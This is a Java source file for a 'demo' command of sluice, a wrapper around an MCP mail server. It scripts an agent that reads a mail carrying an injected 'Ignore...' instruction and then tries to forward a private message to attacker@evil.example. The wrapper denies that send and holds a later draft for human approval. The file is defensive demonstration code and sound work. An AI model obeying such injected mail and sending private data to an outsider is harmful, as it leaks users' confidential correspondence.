package dev.sluice.cli;

import dev.sluice.gateway.State;
import dev.sluice.store.AuditChain;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.stream.Stream;
import picocli.CommandLine.Command;
import picocli.CommandLine.Mixin;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Plays an attack on a real mail server behind a real wrapper, and shows where it ends. */
@Command(
        name = "demo",
        mixinStandardHelpOptions = true,
        header = "See an exfiltration stopped, on a real MCP server.",
        description = {
            "",
            "Starts a mail server behind `sluice run` and plays an agent that is tricked",
            "by a mail. Needs nothing and leaves nothing. Ends with 0 only if every step",
            "ended as it should.",
            ""
        })
final class DemoCommand implements Callable<Integer> {

    /** The class path of the demo's server; the launcher knows where that was built. */
    private static final String MAIL_SERVER = "sluice.mail-server";

    /** Where a denial says what was decided. */
    private static final String DECISION = "dev.sluice/decision";

    private static final String OUTSIDER = "attacker@evil.example";
    private static final String ANA = "ana@partner.example";

    @Mixin
    private Output out = new Output();

    private final Paint paint = Paint.forTerminal();
    private boolean asExpected = true;

    @Override
    public Integer call() throws IOException {
        Path folder = Files.createTempDirectory("sluice-demo");
        try {
            play(folder);
        } finally {
            remove(folder);
        }
        return asExpected ? 0 : 1;
    }

    private void play(Path folder) throws IOException {
        Path policy = folder.resolve("policy.yaml");
        try (InputStream shipped = DemoCommand.class.getResourceAsStream("demo.yaml")) {
            if (shipped == null) {
                throw new IOException("the demo's policy is missing; build sluice anew");
            }
            Files.copy(shipped, policy);
        }
        Path state = folder.resolve("state");
        Path outbox = folder.resolve("outbox.jsonl");
        say(paint.bold("An agent reads and sends mail through sluice. One mail holds an attack."));
        say("");
        try (DemoAgent agent = new DemoAgent(command("demo", policy, state, outbox))) {
            step(
                    agent,
                    "The user asks for a status mail to the team.",
                    "send_email",
                    mail("team@clinic.example", "Status", "The intake form is live."),
                    "allowed",
                    "nothing private or untrusted has been read");
            JsonNode read = step(
                    agent,
                    "The user asks what Ana wrote. Her mail is private to her and the user,",
                    "read_mail",
                    JsonNodeFactory.instance.objectNode().put("id", "m1"),
                    "allowed",
                    "from here on the session is private and untrusted");
            step(
                    agent,
                    "The model does what that says.",
                    "send_email",
                    mail(
                            OUTSIDER,
                            "Fwd",
                            read.path("structuredContent").path("body").asString("")),
                    "denied",
                    "");
            step(
                    agent,
                    "The user asks to answer Ana.",
                    "send_email",
                    mail(ANA, "Re: Your appointment", "Thank you, 9:30 suits me."),
                    "allowed",
                    "Ana may read everything that this session carries");
        }
        try (DemoAgent agent = new DemoAgent(command("demo-later", policy, state, outbox))) {
            askAndRelease(agent, state);
        }
        check(outbox, state);
    }

    /** Nothing here is an attack, but only the user may read a draft: that is for a person to say. */
    private void askAndRelease(DemoAgent agent, Path state) throws IOException {
        JsonNode drafts = step(
                agent,
                "In a new session, the user asks to send the draft to the team. A draft is private to the user,",
                "read_drafts",
                JsonNodeFactory.instance.objectNode(),
                "allowed",
                "from here on the session is private");
        JsonNode draft = drafts.path("structuredContent").path("mails").path(0);
        ObjectNode mail = mail(
                "team@clinic.example",
                draft.path("subject").asString(""),
                draft.path("body").asString(""));
        JsonNode asked =
                step(agent, "so the team may not read it until a person says so.", "send_email", mail, "asked", "");
        String id =
                asked.path("_meta").path(DECISION).path("approval").path("id").asString("");
        say("A person looks at `sluice approvals show " + id + "` and says yes (here the demo plays the person):");
        DemoPerson person = new DemoPerson(state);
        for (String line : person.shown(id)) {
            say(paint.dim("    " + line));
        }
        asExpected &= person.approves(id);
        say("");
        step(
                agent,
                "The model makes the same call again.",
                "send_email",
                mail,
                "allowed",
                "a person approved exactly this call, once");
    }

    /** The wrapper, as a host would start it, around the mail server. */
    private static List<String> command(String session, Path policy, Path state, Path outbox) throws IOException {
        String mailServer = System.getProperty(MAIL_SERVER, "");
        if (mailServer.isEmpty()) {
            throw new IOException(
                    "the demo's mail server is not here; start the demo with the launcher, `./sluice demo`");
        }
        List<String> command = DemoPerson.sluice();
        command.addAll(
                List.of("run", "--policy", policy.toString(), "--state", state.toString(), "--session", session, "--"));
        command.addAll(List.of(
                DemoPerson.java(),
                "-XX:TieredStopAtLevel=1",
                "-XX:+UseSerialGC",
                "-cp",
                mailServer,
                "dev.sluice.examples.mail.MailServer",
                "--outbox",
                outbox.toString()));
        return command;
    }

    private static ObjectNode mail(String to, String subject, String body) {
        ObjectNode mail = JsonNodeFactory.instance.objectNode();
        mail.putArray("to").add(to);
        return mail.put("subject", subject).put("body", body);
    }

    private JsonNode step(
            DemoAgent agent, String story, String tool, ObjectNode arguments, String expected, String because)
            throws IOException {
        JsonNode result = agent.call(tool, arguments);
        String text = result.path("content").path(0).path("text").asString("");
        String decision = result.path("_meta").path(DECISION).path("decision").asString("");
        boolean held = decision.equals("deny") || decision.equals("ask");
        String outcome = held
                ? decision.equals("ask") ? "asked" : "denied"
                : result.path("isError").asBoolean(false) ? "failed" : "allowed";
        boolean right = outcome.equals(expected) && (!held || text.contains("read_"));
        asExpected &= right;
        String to = arguments.path("to").path(0).asString("");
        String id = arguments.path("id").asString("");
        String call = tool + (!to.isEmpty() ? " to " + to : id.isEmpty() ? "" : " " + id);
        String why = held ? reason(text) : because;
        if (out.isJson()) {
            out.line(JsonNodeFactory.instance
                    .objectNode()
                    .put("decision", outcome)
                    .put("expected", expected)
                    .put("tool", tool)
                    .put("to", to)
                    .put("because", why));
            return result;
        }
        say(story);
        if (tool.equals("read_mail") && !held) {
            say("and it says: " + paint.dim("\"" + injection(result) + "\""));
        }
        say("  " + paint.decision(outcome) + "  " + call + ": " + why);
        if (!right) {
            say("  " + paint.bold("this should have been " + expected));
        }
        say("");
        return result;
    }

    /** The reason within the text for the model, without what it is told to do about it. */
    private static String reason(String text) {
        int from = text.indexOf(": ") + 2;
        int to = text.indexOf(". Nothing was run");
        return to > from ? text.substring(from, to) : text;
    }

    private static String injection(JsonNode result) {
        return result.path("structuredContent")
                .path("body")
                .asString("")
                .lines()
                .filter(line -> line.startsWith("Ignore"))
                .map(line -> line.length() > 100 ? line.substring(0, 100) + "..." : line)
                .findFirst()
                .orElse("");
    }

    /** What really left, and whether the record of it stands. */
    private void check(Path outbox, Path state) throws IOException {
        List<String> left = Files.exists(outbox) ? Files.readAllLines(outbox) : List.of();
        boolean clean = left.stream().noneMatch(line -> line.contains(OUTSIDER));
        AuditChain.Outcome audit = State.verifyAudit(state);
        asExpected &= clean && left.size() == 3 && audit instanceof AuditChain.Outcome.Whole;
        if (out.isJson()) {
            out.line(JsonNodeFactory.instance
                    .objectNode()
                    .put("mailsSent", left.size())
                    .put("toOutsider", !clean)
                    .put("auditWhole", audit instanceof AuditChain.Outcome.Whole)
                    .put("asExpected", asExpected));
            return;
        }
        say(paint.bold("The mail server really sent " + left.size() + " mails, " + (clean ? "none" : "one")
                + " of them to the outsider. The record:"));
        try (State open = State.open(state)) {
            open.engine().transact(tx -> tx.audit().read(1, 100)).forEach(record -> {
                JsonNode event = JsonMapper.shared().readTree(record.json());
                if (event.path("kind").asString("").equals("decision")) {
                    say(paint.dim(AuditLine.of(record.seq(), event)));
                }
            });
        }
        say(
                switch (audit) {
                    case AuditChain.Outcome.Whole whole ->
                        "The record is whole: " + whole.count()
                                + " entries, each holding the digest of the one before.";
                    case AuditChain.Outcome.Broken broken ->
                        "The record is broken at " + broken.seq() + ": " + broken.reason();
                });
        say("");
        say("Wrap a server of yours: " + paint.bold("./sluice run -- <the server's command>"));
    }

    private void say(String line) {
        if (!out.isJson()) {
            out.line(line);
        }
    }

    private static void remove(Path folder) throws IOException {
        try (Stream<Path> files = Files.walk(folder)) {
            for (Path file : files.sorted(Comparator.reverseOrder()).toList()) {
                Files.delete(file);
            }
        }
    }
}
